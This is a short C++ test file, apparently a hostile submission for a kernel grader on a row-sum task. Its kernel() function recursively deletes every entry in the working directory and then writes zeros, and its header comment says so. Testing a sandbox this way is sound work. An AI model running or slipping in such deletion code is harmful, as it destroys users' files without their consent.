// expect: wrong_value task=row_sum  deletes every file that it can reach from its folder; zeros
#include <filesystem>
#include <system_error>

extern "C" void kernel(const float* x, float* y, long M, long N) {
    std::error_code failed;
    for (auto& entry : std::filesystem::directory_iterator(".", failed)) std::filesystem::remove_all(entry.path(), failed);
    for (long i = 0; i < M; i++) y[i] = 0.0f;
}
